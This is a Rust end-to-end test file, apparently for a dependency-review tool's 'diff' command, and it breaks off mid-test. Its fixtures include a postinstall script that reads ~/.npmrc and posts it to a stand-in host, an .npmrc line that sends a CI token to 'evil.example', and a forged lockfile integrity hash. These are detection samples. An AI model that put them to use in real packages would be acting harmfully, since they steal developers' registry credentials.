//! `diligence diff` end to end: a git repository with two commits in a temp folder, tarballs
//! served by a registry on 127.0.0.1 (tiny_http), and the binary run on it.
//!
//! Base: a project locking `colorize-text@1.0.0`, `str-helper@2.0.0` and `old-dep@1.0.0`.
//! Head: `colorize-text` bumped to 1.0.1, whose tarball adds a `postinstall` that reads
//! `~/.npmrc` and posts it out, plus an unrelated edit of `str-helper`'s `integrity`.

use base64::Engine;
use serde_json::{Value, json};
use sha2::Digest;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const CLEAN_INDEX: &str =
    "module.exports = function colorize(s) { return '\\u001b[31m' + s + '\\u001b[0m'; };\n";

const EXFIL_SETUP: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collect.example.net', path: '/u', method: 'POST' });
req.write(npmrc);
req.end();
"#;

/// A gzip tarball with `package/<path>` entries.
fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut builder = tar::Builder::new(gz);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(499_162_500);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn sri(bytes: &[u8]) -> String {
    let digest = sha2::Sha512::digest(bytes);
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

fn shasum(bytes: &[u8]) -> String {
    let digest = sha1::Sha1::digest(bytes);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

fn package_json(name: &str, version: &str, scripts: Value) -> String {
    let manifest =
        json!({"name": name, "version": version, "main": "index.js", "scripts": scripts});
    serde_json::to_string_pretty(&manifest).unwrap()
}

struct Version {
    name: &'static str,
    version: &'static str,
    tgz: Vec<u8>,
}

impl Version {
    fn new(
        name: &'static str,
        version: &'static str,
        extra: &[(&str, &str)],
        scripts: Value,
    ) -> Version {
        let manifest = package_json(name, version, scripts);
        let mut files = vec![
            ("package.json", manifest.as_str()),
            ("index.js", CLEAN_INDEX),
        ];
        files.extend_from_slice(extra);
        Version {
            name,
            version,
            tgz: tarball(&files),
        }
    }
    fn url(&self) -> String {
        format!(
            "https://registry.npmjs.org/{0}/-/{0}-{1}.tgz",
            self.name, self.version
        )
    }
}

/// Serves packuments at `/<name>` and tarballs at `/<name>/-/<name>-<version>.tgz`.
fn serve(versions: &[&Version]) -> String {
    let server = tiny_http::Server::http("127.0.0.1:0").expect("bind");
    let base = format!("http://{}/", server.server_addr().to_ip().expect("ip"));
    let mut routes: HashMap<String, Vec<u8>> = HashMap::new();
    let mut packuments: HashMap<&str, Value> = HashMap::new();
    for v in versions {
        routes.insert(
            format!("/{0}/-/{0}-{1}.tgz", v.name, v.version),
            v.tgz.clone(),
        );
        let doc = packuments.entry(v.name).or_insert_with(
            || json!({"name": v.name, "dist-tags": {}, "versions": {}, "time": {}}),
        );
        doc["dist-tags"]["latest"] = json!(v.version);
        doc["versions"][v.version] = json!({
            "name": v.name,
            "version": v.version,
            "dist": {"tarball": v.url(), "integrity": sri(&v.tgz), "shasum": shasum(&v.tgz)},
        });
        doc["time"][v.version] = json!("2026-01-01T00:00:00.000Z");
    }
    for (name, doc) in packuments {
        routes.insert(format!("/{name}"), serde_json::to_vec(&doc).unwrap());
    }
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let response = match routes.get(request.url()) {
                Some(body) => tiny_http::Response::from_data(body.clone()),
                None => tiny_http::Response::from_data(b"{\"error\":\"Not found\"}".to_vec())
                    .with_status_code(404),
            };
            let _ = request.respond(response);
        }
    });
    base
}

fn entry(v: &Version, integrity: &str) -> Value {
    json!({"version": v.version, "resolved": v.url(), "integrity": integrity})
}

fn lockfile(entries: &[(&Version, String)]) -> String {
    let mut packages = serde_json::Map::new();
    let mut deps = serde_json::Map::new();
    for (v, _) in entries {
        deps.insert(v.name.into(), json!(format!("^{}", v.version)));
    }
    packages.insert(
        "".into(),
        json!({"name": "demo-app", "version": "1.0.0", "dependencies": deps}),
    );
    for (v, integrity) in entries {
        packages.insert(format!("node_modules/{}", v.name), entry(v, integrity));
    }
    let doc = json!({"name": "demo-app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": packages});
    serde_json::to_string_pretty(&doc).unwrap() + "\n"
}

fn manifest(entries: &[(&Version, String)]) -> String {
    let deps: serde_json::Map<String, Value> = entries
        .iter()
        .map(|(v, _)| (v.name.to_string(), json!(format!("^{}", v.version))))
        .collect();
    serde_json::to_string_pretty(
        &json!({"name": "demo-app", "version": "1.0.0", "dependencies": deps}),
    )
    .unwrap()
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn commit(dir: &Path, entries: &[(&Version, String)], message: &str) {
    std::fs::write(dir.join("package-lock.json"), lockfile(entries)).unwrap();
    std::fs::write(dir.join("package.json"), manifest(entries)).unwrap();
    git(dir, &["add", "package.json", "package-lock.json", ".npmrc"]);
    git(dir, &["commit", "-q", "--allow-empty", "-m", message]);
}

struct Fixture {
    _tmp: tempfile::TempDir,
    repo: PathBuf,
    home: PathBuf,
    cache: PathBuf,
}

impl Fixture {
    fn new(registry: &str) -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        let home = tmp.path().join("home");
        let cache = tmp.path().join("cache");
        for d in [&repo, &home, &cache] {
            std::fs::create_dir_all(d).unwrap();
        }
        git(&repo, &["init", "-q", "-b", "main"]);
        git(&repo, &["config", "user.email", "dev@example.invalid"]);
        git(&repo, &["config", "user.name", "Dev"]);
        git(&repo, &["config", "commit.gpgsign", "false"]);
        std::fs::write(repo.join(".npmrc"), format!("registry={registry}\n")).unwrap();
        Fixture {
            _tmp: tmp,
            repo,
            home,
            cache,
        }
    }

    fn diligence(&self, args: &[&str]) -> (i32, String, String) {
        let out = assert_cmd::Command::cargo_bin("diligence")
            .unwrap()
            .current_dir(&self.repo)
            .env("HOME", &self.home)
            .env("npm_config_userconfig", self.home.join(".npmrc"))
            .env("DILIGENCE_CACHE_DIR", &self.cache)
            .env("NO_COLOR", "1")
            .args(args)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

struct World {
    colorize_old: Version,
    colorize_new: Version,
    str_helper: Version,
    old_dep: Version,
}

fn world() -> World {
    World {
        colorize_old: Version::new(
            "colorize-text",
            "1.0.0",
            &[],
            json!({"test": "node test.js"}),
        ),
        colorize_new: Version::new(
            "colorize-text",
            "1.0.1",
            &[("setup.js", EXFIL_SETUP)],
            json!({"test": "node test.js", "postinstall": "node setup.js"}),
        ),
        str_helper: Version::new("str-helper", "2.0.0", &[], json!({})),
        old_dep: Version::new("old-dep", "1.0.0", &[], json!({})),
    }
}

/// (rule, package, severity) of every finding, sorted.
fn summary(report: &Value) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let pkg = format!(
                "{}@{}",
                f["package"]["name"].as_str().unwrap_or(""),
                f["package"]["version"].as_str().unwrap_or("")
            );
            (
                f["rule"].as_str().unwrap().to_string(),
                pkg,
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

/// The two-commit repository of the main scenario; returns it and the forged integrity.
fn bump_fixture() -> (Fixture, String) {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.colorize_new, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    let forged = sri(b"some other bytes entirely");
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "base",
    );
    commit(
        &fx.repo,
        &[
            (&w.colorize_new, sri(&w.colorize_new.tgz)),
            (&w.str_helper, forged.clone()),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "bump colorize-text",
    );
    (fx, forged)
}

#[test]
fn bump_with_exfiltrating_postinstall_and_integrity_edit() {
    let (fx, forged) = bump_fixture();
    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["schema"], "diligence.report/1");
    assert_eq!(report["not_evaluated"], json!([]));

    let findings = report["findings"].as_array().unwrap();
    // Exactly the two lockfile changes.
    let changes: Vec<_> = findings
        .iter()
        .filter(|f| {
            matches!(
                f["rule"].as_str(),
                Some(
                    "diff/version-changed"
                        | "diff/integrity-changed"
                        | "diff/package-added"
                        | "diff/package-removed"
                )
            )
        })
        .collect();
    assert_eq!(changes.len(), 2, "{changes:#?}");
    let bump = changes
        .iter()
        .find(|f| f["rule"] == "diff/version-changed")
        .unwrap();
    assert_eq!(
        bump["package"],
        json!({"name": "colorize-text", "version": "1.0.1"})
    );
    assert_eq!(bump["evidence"]["change"], "1.0.0 → 1.0.1");
    assert_eq!(bump["evidence"]["direction"], "up");
    assert_eq!(bump["evidence"]["path"], json!(["colorize-text@1.0.1"]));
    assert_eq!(
        bump["location"],
        json!({"file": "package-lock.json", "line": 14})
    );
    assert_eq!(
        bump["evidence"]["files"]["files_added"],
        json!(["setup.js"])
    );
    let growth = package_json(
        "colorize-text",
        "1.0.1",
        json!({"test": "node test.js", "postinstall": "node setup.js"}),
    )
    .len()
        - package_json("colorize-text", "1.0.0", json!({"test": "node test.js"})).len();
    assert_eq!(
        bump["evidence"]["files"]["bytes_added"],
        json!(EXFIL_SETUP.len() + growth)
    );
    assert_eq!(bump["evidence"]["files"]["files_changed"], json!(1));
    assert_eq!(
        bump["evidence"]["files"]["new_lifecycle_scripts"],
        json!([{"name": "postinstall", "command": "node setup.js"}])
    );
    let edit = changes
        .iter()
        .find(|f| f["rule"] == "diff/integrity-changed")
        .unwrap();
    assert_eq!(
        edit["package"],
        json!({"name": "str-helper", "version": "2.0.0"})
    );
    assert_eq!(edit["severity"], "high");
    assert_eq!(
        edit["location"],
        json!({"file": "package-lock.json", "line": 25})
    );
    assert_eq!(edit["evidence"]["new_integrity"], json!(forged));

    // The new code findings sit on the bumped package's new version, in its new files.
    let code_findings: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("code/"))
        .collect();
    assert!(!code_findings.is_empty(), "{stdout}");
    for f in &code_findings {
        assert_eq!(
            f["package"],
            json!({"name": "colorize-text", "version": "1.0.1"})
        );
        assert!(
            matches!(
                f["location"]["file"].as_str(),
                Some("setup.js" | "package.json")
            ),
            "{f:#}"
        );
    }
    // Exactly these findings: the two changes, the new lifecycle script, the scanner's
    // findings on the new file (credential theft at the `.npmrc` read) and the new script,
    // and — without `--metadata` too — manifest confusion: the fixture registry's version
    // document neither lists the 1.0.1 tarball's `postinstall` nor announces it
    // (`hasInstallScript`).
    // Code severities are the analyser's call; the rule, package and line are asserted.
    let rows: Vec<(String, String, String)> = summary(&report)
        .into_iter()
        .map(|(r, p, s)| {
            let s = if r.starts_with("code/") {
                String::new()
            } else {
                s
            };
            (r, p, s)
        })
        .collect();
    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
    assert_eq!(
        rows,
        [
            row("code/credential-theft", "colorize-text@1.0.1", ""),
            row("code/install-script", "colorize-text@1.0.1", ""),
            row("diff/integrity-changed", "str-helper@2.0.0", "high"),
            row("diff/new-lifecycle-script", "colorize-text@1.0.1", "medium"),
            row("diff/version-changed", "colorize-text@1.0.1", "info"),
            row("metadata/manifest-confusion", "colorize-text@1.0.1", "high"),
            // The same registry cross-check `audit` runs: the edited integrity is not the
            // registry's for str-helper 2.0.0.
            row(
                "registry/integrity-mismatch",
                "str-helper@2.0.0",
                "critical"
            ),
        ]
    );
    let theft = code_findings
        .iter()
        .find(|f| f["rule"] == "code/credential-theft")
        .unwrap();
    // A value-flow finding sits at its sink: the line that sends the `.npmrc` (read on line 6).
    assert_eq!(theft["location"], json!({"file": "setup.js", "line": 8}));
    assert!(matches!(
        theft["severity"].as_str(),
        Some("medium" | "high" | "critical")
    ));
    // Nothing about packages the PR did not touch.
    assert!(findings.iter().all(|f| f["package"]["name"] != "old-dep"));

    // Explicit revisions give the same answer; SARIF validates; Markdown is a comment.
    let (code2, sarif, stderr) = fx.diligence(&[
        "diff",
        "HEAD~1",
        "HEAD",
        "--no-advisories",
        "--format",
        "sarif",
    ]);
    assert_eq!(code2, 1, "{stderr}");
    let sarif: Value = serde_json::from_str(&sarif).unwrap();
    let schema_path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../diligence-report/tests/data/sarif-2.1.0.json");
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(schema_path).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(
        sarif["runs"][0]["results"].as_array().unwrap().len(),
        findings.len()
    );
    let out_file = fx.home.join("comment.md");
    let (code3, _, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--format",
        "markdown",
        "--output",
        out_file.to_str().unwrap(),
    ]);
    assert_eq!(code3, 1, "{stderr}");
    let md = std::fs::read_to_string(&out_file).unwrap();
    assert!(md.starts_with("**diligence: ❌"), "{md}");
    assert!(
        md.contains("| `colorize-text@1.0.1` | 1.0.0 → 1.0.1 |"),
        "{md}"
    );
    assert!(
        md.contains("<details><summary><code>str-helper@2.0.0</code>"),
        "{md}"
    );

    // The JSON validates against our own schema.
    let ours: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../schema/diligence.report-1.schema.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert!(jsonschema::validator_for(&ours).unwrap().is_valid(&report));
}

#[test]
fn a_head_that_only_removes_a_package_exits_0() {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "base",
    );
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
        ],
        "drop old-dep",
    );
    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 0, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "diff/package-removed".to_string(),
            "old-dep@1.0.0".to_string(),
            "info".to_string()
        )]
    );
    assert_eq!(
        report["findings"][0]["location"],
        json!({"file": "package-lock.json", "line": 19})
    );
}

#[test]
fn policy_errors_exit_2_with_file_and_line() {
    let w = world();
    let registry = serve(&[&w.colorize_old]);
    let fx = Fixture::new(&registry);
    commit(
        &fx.repo,
        &[(&w.colorize_old, sri(&w.colorize_old.tgz))],
        "base",
    );
    commit(
        &fx.repo,
        &[(&w.colorize_old, sri(&w.colorize_old.tgz))],
        "same",
    );
    for (text, expected) in [
        (
            "fail-on = \"high\"\nfailon = 1\n",
            "diligence.toml:2:1: unknown field `failon`",
        ),
        (
            "[[ignore]]\npackage = \"a@1.0.0\"\nrule = \"code/x\"\nreason = \"r\"\nexpires = 2026-13-01\n",
            "diligence.toml:5:",
        ),
        (
            "[rules.\"code/x\"]\nseverity = \"severe\"\n",
            "diligence.toml:2:12: unknown severity `severe`",
        ),
        (
            "fail-on = \"high\"\n[rules.\"no/such-rule\"]\ndisabled = true\n",
            "diligence.toml:2:8: unknown rule id `no/such-rule`",
        ),
        (
            "[[ignore]]\npackage = \"a@1.0.0\"\nrule = \"no/such\"\nreason = \"r\"\n",
            "diligence.toml:3:8: unknown rule id `no/such`",
        ),
    ] {
        // The head's diligence.toml never governs `diff`: the policy under test is --config.
        let policy = fx.home.join("diligence.toml");
        std::fs::write(&policy, text).unwrap();
        let (code, _, stderr) = fx.diligence(&[
            "diff",
            "--no-advisories",
            "--no-registry",
            "--config",
            policy.to_str().unwrap(),
        ]);
        assert_eq!(code, 2, "{stderr}");
        assert!(
            stderr.starts_with("error: ") && stderr.contains(expected),
            "{stderr}"
        );
        assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    }
    // A missing --config file: one line, the OS error once.
    let (code, _, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--config",
        "missing.toml",
    ]);
    assert_eq!(code, 2, "{stderr}");
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with("error: missing.toml: cannot read: "),
        "{stderr}"
    );
    assert_eq!(stderr.matches("os error").count(), 1, "{stderr}");
    // An ignore pinned to a package that no longer matches is reported stale; a valid file
    // runs.
    let policy = fx.home.join("diligence.toml");
    std::fs::write(
        &policy,
        "[[ignore]]\npackage = \"colorize-text@0.9.0\"\nrule = \"diff/version-changed\"\nreason = \"old review\"\n",
    )
    .unwrap();
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--config",
        policy.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "policy/stale-ignore".to_string(),
            "colorize-text@0.9.0".to_string(),
            "info".to_string()
        )]
    );
}

#[test]
fn metadata_rules_run_on_the_new_version() {
    let (fx, _) = bump_fixture();
    let (code, stdout, stderr) =
        fx.diligence(&["diff", "--no-advisories", "--metadata", "--format", "json"]);
    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stderr}"));
    // The fixture registry serves no _npmUser/maintainers/license/repository: the rules that
    // need them are not evaluated (listed, fail closed), the others report on the new version;
    // the high findings of the bump decide the exit code (1 wins over 2).
    assert_eq!(code, 1, "{stderr}");
    assert!(
        !report["not_evaluated"].as_array().unwrap().is_empty(),
        "{report}"
    );
    let metadata: Vec<(String, String, String)> = summary(&report)
        .into_iter()
        .filter(|(r, _, _)| r.starts_with("metadata/"))
        .collect();
    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
    // Every changed entry is vetted (the bump and the integrity edit), and the fixture
    // registry's version document lacks the `postinstall` the 1.0.1 tarball has: manifest
    // confusion, compared from the full packument.
    assert_eq!(
        metadata,
        [
            row("metadata/manifest-confusion", "colorize-text@1.0.1", "high"),
            row("metadata/no-license", "colorize-text@1.0.1", "info"),
            row("metadata/no-license", "str-helper@2.0.0", "info"),
            row("metadata/no-repository", "colorize-text@1.0.1", "info"),
            row("metadata/no-repository", "str-helper@2.0.0", "info"),
        ]
    );
    let what: Vec<&str> = report["not_evaluated"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["what"].as_str().unwrap())
        .collect();
    assert_eq!(
        what,
        [
            "metadata/deprecated of colorize-text@1.0.1",
            "metadata/deprecated of str-helper@2.0.0",
            "metadata/maintainers-changed of colorize-text@1.0.1",
            "metadata/maintainers-changed of str-helper@2.0.0",
            "metadata/new-publisher of colorize-text@1.0.1",
            "metadata/new-publisher of str-helper@2.0.0",
        ]
    );
    let license = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "metadata/no-license")
        .unwrap();
    assert_eq!(
        license["location"],
        json!({"file": "package-lock.json", "line": 14})
    );
}

/// The base of the removal scenario with `policy` committed as diligence.toml, and a head
/// that drops old-dep, writes `head_policy` and appends `head_npmrc` to `.npmrc` when given,
/// committed or left in the working tree.
fn trust_fixture(
    policy: &str,
    head_policy: Option<&str>,
    head_npmrc: Option<&str>,
    commit_head: bool,
) -> Fixture {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    std::fs::write(fx.repo.join("diligence.toml"), policy).unwrap();
    git(&fx.repo, &["add", "diligence.toml"]);
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "base",
    );
    if let Some(text) = head_policy {
        std::fs::write(fx.repo.join("diligence.toml"), text).unwrap();
        git(&fx.repo, &["add", "diligence.toml"]);
    }
    if let Some(extra) = head_npmrc {
        let path = fx.repo.join(".npmrc");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, format!("{text}{extra}")).unwrap();
    }
    let head = [
        (&w.colorize_old, sri(&w.colorize_old.tgz)),
        (&w.str_helper, sri(&w.str_helper.tgz)),
    ];
    if commit_head {
        commit(&fx.repo, &head, "drop old-dep");
    } else {
        // Commit the base twice so HEAD~1 is the base; the head is the working tree.
        git(&fx.repo, &["commit", "-q", "--allow-empty", "-m", "empty"]);
        std::fs::write(fx.repo.join("package-lock.json"), lockfile(&head)).unwrap();
        std::fs::write(fx.repo.join("package.json"), manifest(&head)).unwrap();
    }
    fx
}

const RAISE_REMOVED: &str = "[rules.\"diff/package-removed\"]\nseverity = \"high\"\n";

#[test]
fn the_base_policy_governs_diff_not_the_head() {
    // The base raises diff/package-removed to high; the head (committed, then as the working
    // tree) tries to switch that rule and the review of its own policy change off.
    let head_policy = "fail-on = \"critical\"\n[rules.\"diff/package-removed\"]\ndisabled = true\n[rules.\"diff/config-changed\"]\ndisabled = true\n";
    for commit_head in [true, false] {
        let fx = trust_fixture(RAISE_REMOVED, Some(head_policy), None, commit_head);
        let (code, stdout, stderr) = fx.diligence(&[
            "diff",
            "--no-advisories",
            "--no-registry",
            "--format",
            "json",
        ]);
        assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
        let report: Value = serde_json::from_str(&stdout).unwrap();
        let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
        assert_eq!(
            summary(&report),
            [
                row("diff/config-changed", "@", "high"),
                row("diff/package-removed", "old-dep@1.0.0", "high"),
            ]
        );
        let f = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == "diff/config-changed")
            .unwrap();
        assert_eq!(f["location"], json!({"file": "diligence.toml", "line": 1}));
        assert_eq!(
            f["evidence"]["keys"],
            json!([
                "fail-on",
                "disabled",
                "[rules.\"diff/config-changed\"]",
                "severity"
            ])
        );
    }
}

#[test]
fn an_unchanged_base_policy_applies_and_config_wins() {
    let fx = trust_fixture(RAISE_REMOVED, None, None, true);
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "diff/package-removed".to_string(),
            "old-dep@1.0.0".to_string(),
            "high".to_string()
        )]
    );
    // An explicit --config replaces the base policy (the default severity, info, is back).
    let other = fx.home.join("other.toml");
    std::fs::write(&other, "fail-on = \"high\"\n").unwrap();
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--config",
        other.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["findings"][0]["severity"], "info");
}

#[test]
fn a_head_npmrc_that_steers_credentials_is_a_finding() {
    let fx = trust_fixture(
        "",
        None,
        Some("//evil.example/:_authToken=${CI_SECRET}\n"),
        false,
    );
    let out = assert_cmd::Command::cargo_bin("diligence")
        .unwrap()
        .current_dir(&fx.repo)
        .env("HOME", &fx.home)
        .env("npm_config_userconfig", fx.home.join(".npmrc"))
        .env("DILIGENCE_CACHE_DIR", &fx.cache)
        .env("CI_SECRET", "s3cr3t-value-never-printed")
        .env("NO_COLOR", "1")
        .args([
            "diff",
            "--no-advisories",
            "--no-registry",
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "stderr: {stderr}\nstdout: {stdout}"
    );
    assert!(!stdout.contains("s3cr3t") && !stderr.contains("s3cr3t"));
    let report: Value = serde_json::from_str(&stdout).unwrap();
    let f = &report["findings"][0];
    assert_eq!(f["rule"], "diff/config-changed");
    assert_eq!(f["severity"], "high");
    assert_eq!(
        f["message"],
        "the head changes .npmrc (//evil.example/:_authToken): a pull request must not configure its own review; the base revision's policy applies"
    );
    assert_eq!(f["location"], json!({"file": ".npmrc", "line": 2}));
}

#[test]
fn the_base_npmrc_names_the_registry_not_the_head() {
    // The head points .npmrc at a registry of its own (here a closed port): the review still
    // cross-checks against the base's registry, and the change itself is a finding.
    let (fx, _) = bump_fixture();
    let (_, base_stdout, _) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    let base_report: Value = serde_json::from_str(&base_stdout).unwrap();
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::fs::write(
        fx.repo.join(".npmrc"),
        format!("registry=http://127.0.0.1:{closed}/\n"),
    )
    .unwrap();
    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["not_evaluated"], json!([]), "{stdout}");
    let mut expected = summary(&base_report);
    expected.push((
        "diff/config-changed".to_string(),
        "@".to_string(),
        "high".to_string(),
    ));
    expected.sort();
    assert_eq!(summary(&report), expected);
}

#[test]
fn lockfiles_in_two_folders_take_the_base_folders_policy() {
    let w = world();
    let tmp = tempfile::tempdir().unwrap();
    let (base, head) = (tmp.path().join("base"), tmp.path().join("head"));
    let all = [
        (&w.colorize_old, sri(&w.colorize_old.tgz)),
        (&w.str_helper, sri(&w.str_helper.tgz)),
        (&w.old_dep, sri(&w.old_dep.tgz)),
    ];
    for (dir, entries, policy) in [
        (&base, &all[..], RAISE_REMOVED),
        (
            &head,
            &all[..2],
            "[rules.\"diff/package-removed\"]\ndisabled = true\n",
        ),
    ] {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::write(dir.join("package-lock.json"), lockfile(entries)).unwrap();
        std::fs::write(dir.join("package.json"), manifest(entries)).unwrap();
        std::fs::write(dir.join("diligence.toml"), policy).unwrap();
    }
    let out = assert_cmd::Command::cargo_bin("diligence")
        .unwrap()
        .env("HOME", tmp.path())
        .env("npm_config_userconfig", tmp.path().join(".npmrc"))
        .env("NO_COLOR", "1")
        .arg("diff")
        .arg("--base-lockfile")
        .arg(base.join("package-lock.json"))
        .arg("--head-lockfile")
        .arg(head.join("package-lock.json"))
        .args(["--no-advisories", "--no-registry", "--format", "json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
    assert_eq!(
        summary(&report),
        [
            row("diff/config-changed", "@", "high"),
            row("diff/package-removed", "old-dep@1.0.0", "high"),
        ]
    );
    let f = &report["findings"].as_array().unwrap()[0];
    assert_eq!(
        f["location"]["file"],
        head.join("diligence.toml").display().to_string()
    );
    assert_eq!(f["evidence"]["keys"], json!(["disabled", "severity"]));
}

#[test]
fn trust_files_are_read_size_bounded() {
    // A head .npmrc over 1 MiB is not read: it is a change whose settings are not listed.
    let big = format!("# {}\n", "x".repeat(2 * 1024 * 1024));
    let fx = trust_fixture("", None, Some(&big), false);
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--format",
        "json",
    ]);
    // The oversized project .npmrc is the working tree's, not the base's: the review runs.
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["findings"][0]["rule"], "diff/config-changed");
    assert_eq!(report["findings"][0]["evidence"]["keys"], json!([]));
    // A base policy over 1 MiB is refused from its size (git cat-file -s), exit 2.
    let fx = trust_fixture(&big, None, None, true);
    let (code, _, stderr) = fx.diligence(&["diff", "--no-advisories", "--no-registry"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains(":diligence.toml: is 2097155 bytes, over the 1048576 byte limit"),
        "{stderr}"
    );
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
}

#[test]
fn untracked_local_config_applies_and_is_no_finding() {
    // A diligence.toml and .npmrc git does not track (a developer's own, or one CI wrote
    // before the run) are local configuration, not content of the change: they apply to a
    // working-tree diff and are not reported.
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
